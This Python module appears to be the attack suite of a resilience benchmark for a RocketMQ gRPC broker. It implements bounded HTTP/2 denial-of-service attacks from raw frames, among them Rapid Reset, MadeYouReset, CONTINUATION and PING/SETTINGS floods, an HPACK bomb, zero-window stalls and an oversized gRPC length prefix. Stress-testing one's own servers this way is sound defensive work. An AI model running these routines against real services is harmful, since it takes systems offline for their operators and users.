"""The attacks of ``bench/hostile.py``: one function each, given a ``Ctx``, returning its context.

Each builds raw frames with ``bench/h2raw.py``, is bounded in count (scaled by ``Ctx.scale``) and in
time (``Ctx.deadline``; a hold waits ``Ctx.hold_s``), registers its connections on the ``Ctx`` and
leaves them open: the caller reads how the broker treated them, then closes them.
"""

from __future__ import annotations

import math
import os
import threading
import time

from bench import h2raw

MiB = 1 << 20
NORMAL_TOPIC = "hostile-normal"   # the normal client's QueryRoute
BIG_TOPIC = "hostile-big"         # prefilled for the zero-window attacks
BIG_BODY = 64 << 10               # zero-window attack: 64 KiB messages
RECEIVE_BATCH = 32                # the broker's largest ReceiveMessage batch


def route_request():
    """The normal client's call: QueryRoute of NORMAL_TOPIC."""
    from rocketmq.grpc_protocol import definition_pb2 as pb
    from rocketmq.grpc_protocol import service_pb2 as sv
    return sv.QueryRouteRequest(topic=pb.Resource(name=NORMAL_TOPIC))


class Ctx:
    """What an attack gets: where the broker is, its time limit, the counts' scale, and a list of
    the connections it opened (their fate is read after it returns)."""

    def __init__(self, host: str, port: int, seconds: float, hold_s: float, scale: float,
                 stop: threading.Event, args) -> None:
        self.host, self.port = host, port
        self.deadline = time.monotonic() + seconds
        self.hold_s, self.scale, self.stop, self.args = hold_s, scale, stop, args
        self.conns: list[h2raw.Conn] = []

    def stopped(self) -> bool:
        return self.stop.is_set() or time.monotonic() > self.deadline

    def n(self, count: int) -> int:
        return max(1, int(count * self.scale))

    def connect(self, **kwargs) -> h2raw.Conn:
        conn = h2raw.Conn(self.host, self.port, **kwargs)
        self.conns.append(conn)
        return conn

    def hold(self, seconds: float | None = None) -> float:
        """Keep the attack's connections open (nothing read) for ``seconds``, unless the watchdog stops it."""
        t0 = time.monotonic()
        self.stop.wait(self.hold_s if seconds is None else seconds)
        return round(time.monotonic() - t0, 2)


def _receive_request(group: str) -> bytes:
    from rocketmq.grpc_protocol import definition_pb2 as pb
    from rocketmq.grpc_protocol import service_pb2 as sv
    req = sv.ReceiveMessageRequest(group=pb.Resource(name=group),
                                   message_queue=pb.MessageQueue(topic=pb.Resource(name=BIG_TOPIC)),
                                   filter_expression=pb.FilterExpression(type=pb.TAG, expression="*"),
                                   batch_size=RECEIVE_BATCH, auto_renew=False)
    req.invisible_duration.seconds = 60
    req.long_polling_timeout.seconds = 1
    return req.SerializeToString()


def _zero_window(ctx: Ctx, calls: int) -> dict:
    """SETTINGS_INITIAL_WINDOW_SIZE = 0, then ``calls`` ReceiveMessage calls for 32 x 64 KiB, never read.
    POP hands each message to one receive of a group, so the calls are spread over enough groups
    (a new group starts at the oldest message) for each to find a full batch in the prefill."""
    prefilled = ctx.args.prefill
    per_group = max(1, prefilled // RECEIVE_BATCH)
    groups = math.ceil(calls / per_group)
    requests = [_receive_request(f"hostile-zw-{g}") for g in range(groups)]
    conn = ctx.connect(timeout=2.0)
    conn.start({h2raw.SETTINGS_INITIAL_WINDOW_SIZE: 0})
    sent = 0
    while sent < calls and not ctx.stopped() and not conn.closed:
        for _ in range(min(50, calls - sent)):
            conn.call("ReceiveMessage", requests[sent // per_group])
            sent += 1
    return {"calls": sent, "receive_batch": RECEIVE_BATCH, "message_bytes": BIG_BODY, "prefilled": prefilled,
            "groups": groups, "answers_mib": round(sent * RECEIVE_BATCH * BIG_BODY / MiB),
            "held_s": ctx.hold(), "server_max_concurrent_streams":
                conn.server_settings.get(h2raw.SETTINGS_MAX_CONCURRENT_STREAMS)}


def zero_window(ctx: Ctx) -> dict:
    return _zero_window(ctx, ctx.n(500) if ctx.scale < 1 else 500)


def zero_window_2000(ctx: Ctx) -> dict:
    return _zero_window(ctx, ctx.n(2000) if ctx.scale < 1 else 2000)


def half_preface(ctx: Ctx) -> dict:
    """2,000 connections each send half the preface and stay open."""
    half = h2raw.PREFACE[:len(h2raw.PREFACE) // 2]
    opened = refused = 0
    for _ in range(ctx.n(2000)):
        if ctx.stopped():
            break
        try:
            ctx.connect(timeout=2.0).send(half)
            opened += 1
        except OSError:
            refused += 1
    return {"connections": opened, "connect_failed": refused, "held_s": ctx.hold(ctx.args.hold_long)}


def stream_exhaustion(ctx: Ctx) -> dict:
    """One connection opens 5,000 streams (HEADERS without END_STREAM) and sends nothing more."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    opened = 0
    total = ctx.n(5000) if ctx.scale < 1 else 5000
    while opened < total and not ctx.stopped() and not conn.closed:
        frames = []
        for _ in range(min(200, total - opened)):
            sid = conn.stream_id()
            frames.append(h2raw.headers(sid, conn.block(h2raw.grpc_headers("QueryRoute", conn.authority))))
            opened += 1
        conn.send(b"".join(frames))
    return {"streams": opened, "held_s": ctx.hold(),
            "server_max_concurrent_streams": conn.server_settings.get(h2raw.SETTINGS_MAX_CONCURRENT_STREAMS)}


def _route_body() -> bytes:
    return route_request().SerializeToString()


def _steady_block(conn: h2raw.Conn, fields) -> tuple[bytes, bytes]:
    """The first two HPACK blocks of ``fields``: the second indexes everything, so every later
    block is the same bytes (the encoder's table no longer changes)."""
    return conn.block(fields), conn.block(fields)


def rapid_reset(ctx: Ctx) -> dict:
    """CVE-2023-44487: HEADERS + DATA (a QueryRoute) then RST_STREAM(CANCEL), 100,000 times."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    first, steady = _steady_block(conn, h2raw.grpc_headers("QueryRoute", conn.authority))
    message = h2raw.grpc_message(_route_body())
    total, done = ctx.n(100_000), 0
    while done < total and not ctx.stopped() and not conn.closed and conn.goaway_code is None:
        frames = []
        for _ in range(min(500, total - done)):
            sid = conn.stream_id()
            frames += (h2raw.headers(sid, first if sid == 1 else steady), h2raw.data(sid, message, True),
                       h2raw.rst_stream(sid))
            done += 1
        if not conn.send(b"".join(frames)):
            break
        conn.poll(0)
    return {"streams_reset": done}


def made_you_reset(ctx: Ctx) -> dict:
    """CVE-2025-8671: frames that make the server reset a stream, 100,000 times: alternately
    WINDOW_UPDATE of 0 on an open stream (PROTOCOL_ERROR) and DATA on a half-closed one (STREAM_CLOSED)."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    first, steady = _steady_block(conn, h2raw.grpc_headers("QueryRoute", conn.authority))
    total, done = ctx.n(100_000), 0
    while done < total and not ctx.stopped() and not conn.closed and conn.goaway_code is None:
        frames = []
        for _ in range(min(500, total - done)):
            sid = conn.stream_id()
            block = first if sid == 1 else steady
            if done % 2 == 0:
                frames += (h2raw.headers(sid, block), h2raw.window_update(sid, 0))
            else:
                frames += (h2raw.headers(sid, block, end_stream=True), h2raw.data(sid, b"x"))
            done += 1
        if not conn.send(b"".join(frames)):
            break
        conn.poll(0)
    return {"streams": done, "forms": "WINDOW_UPDATE 0 on an open stream; DATA on a half-closed stream"}


def continuation_flood(ctx: Ctx) -> dict:
    """HEADERS without END_HEADERS, then 2,000,000 CONTINUATION frames, nine in ten empty and one in
    ten of one byte: 200 KB in all, under a 256 KiB byte cap, so only a count of frames stops it."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    block = conn.block(h2raw.grpc_headers("QueryRoute", conn.authority))
    conn.send(h2raw.headers(1, block, end_headers=False))
    empty, one = h2raw.continuation(1, b""), h2raw.continuation(1, b"\x00")
    done = _until_refused(ctx, conn, (empty * 9 + one) * 500, 5000, ctx.n(2_000_000))
    return {"continuation_frames": done, "continuation_bytes": done // 10}


def _until_refused(ctx: Ctx, conn, chunk: bytes, frames_per_chunk: int, total: int) -> int:
    """Send ``chunk`` until ``total`` frames are out, the time is up, or the broker closed or sent
    GOAWAY (read between chunks); the frames sent."""
    done = 0
    while done < total and not ctx.stopped() and not conn.closed and conn.goaway_code is None:
        if not conn.send(chunk):
            break
        done += frames_per_chunk
        conn.poll(0)
    return done



def hpack_bomb(ctx: Ctx) -> dict:
    """One 4,000-byte dynamic-table entry, then 200,000 one-byte references to it per header block
    (~200 KB on the wire, ~800 MB decoded), on up to 50 streams (the entry stays in the table)."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    fields = b"".join(h2raw.literal(n.encode(), v.encode())
                      for n, v in h2raw.grpc_headers("QueryRoute", conn.authority))
    value = b"b" * 4000
    refs = b"\xbe" * ctx.n(200_000)  # index 62: the newest dynamic entry
    message = h2raw.grpc_message(_route_body())
    blocks = 0
    for _ in range(ctx.n(50)):
        if ctx.stopped() or conn.closed or conn.goaway_code is not None:
            break
        sid = conn.stream_id()
        entry = h2raw.literal(b"x-bomb", value, index=True) if sid == 1 else b""
        if not conn.send(h2raw.header_frames(sid, fields + entry + refs) + h2raw.data(sid, message, True)):
            break
        blocks += 1
        conn.poll(0.05)
    decoded = len(refs) * (len(value) + 6 + 32)
    return {"blocks": blocks, "block_bytes": len(fields) + len(refs), "refs_per_block": len(refs),
            "decoded_mib_per_block": round(decoded / MiB)}


def _flood(ctx: Ctx, frame: bytes, total: int, per_send: int) -> dict:
    """Send ``frame`` ``total`` times and never read (a 16 KiB receive buffer: the acks back up)."""
    conn = ctx.connect(timeout=2.0, rcvbuf=16 << 10)
    conn.start()
    chunk, done = frame * per_send, 0
    while done < total and not ctx.stopped():
        if not conn.send(chunk):
            break
        done += per_send
    return {"frames": done, "frame_bytes": len(frame), "server_stopped_reading": conn.send_blocked}


def ping_flood(ctx: Ctx) -> dict:
    """CVE-2019-9512: 5,000,000 PINGs (85 MB), acks never read."""
    return _flood(ctx, h2raw.ping(b"hostile!"), ctx.n(5_000_000), 2000)


def settings_flood(ctx: Ctx) -> dict:
    """CVE-2019-9515: 3,000,000 SETTINGS frames (one entry each, 45 MB), acks never read."""
    return _flood(ctx, h2raw.settings({h2raw.SETTINGS_HEADER_TABLE_SIZE: 4096}), ctx.n(3_000_000), 2000)


def empty_frames(ctx: Ctx) -> dict:
    """CVE-2019-9518: on an open stream, 500,000 frames that carry nothing: zero-length DATA
    without END_STREAM and frames of an unknown type, alternately (3,000,000 in all)."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    sid = conn.call("QueryRoute", None, end_stream=False)
    done = _until_refused(ctx, conn, (h2raw.data(sid, b"") + h2raw.unknown(0x20, 0)) * 2500, 5000, ctx.n(3_000_000))
    return {"frames": done}


def grpc_4gib(ctx: Ctx) -> dict:
    """Up to 32 SendMessage calls whose gRPC length prefix announces 4 GiB - 1, each followed by as
    much of the message as the broker's flow-control windows let in (at most 4 MiB - 64 KiB a call,
    under the 4 MiB message limit, so only the announced length gives it away), left open."""
    conn = ctx.connect(timeout=2.0)
    conn.start()
    piece = os.urandom(16 << 10)
    per_stream = (4 << 20) - (64 << 10)
    streams, total = 0, 0
    for _ in range(ctx.n(32)):
        if ctx.stopped() or conn.closed or conn.goaway_code is not None:
            break
        sid = conn.call("SendMessage", None, end_stream=False)
        conn.send_data(sid, h2raw.grpc_message(b"", announced=0xFFFFFFFF))
        streams += 1
        sent, stalled = 0, time.monotonic()
        while sent < per_stream and not ctx.stopped() and not conn.closed and sid not in conn.ended:
            if conn.window(sid) >= len(piece):
                conn.send_data(sid, piece)
                sent += len(piece)
                stalled = time.monotonic()
            elif time.monotonic() - stalled > 1.0:  # the broker stopped granting window
                break
            else:
                conn.poll(0.05)
        total += sent
        if conn.conn_window < len(piece):  # the connection's window is spent: no other call gets in
            break
    held = ctx.hold()
    return {"streams": streams, "bytes_sent_mib": round(total / MiB, 1), "announced_bytes": 0xFFFFFFFF,
            "max_bytes_per_stream": per_stream, "held_s": held}


ATTACKS = {f.__name__: f for f in (zero_window, zero_window_2000, half_preface, stream_exhaustion, rapid_reset,
                                   made_you_reset, continuation_flood, hpack_bomb, ping_flood, settings_flood,
                                   empty_frames, grpc_4gib)}
SECTION = {"zero_window": "2", "zero_window_2000": "2", "half_preface": "2", "stream_exhaustion": "2"}
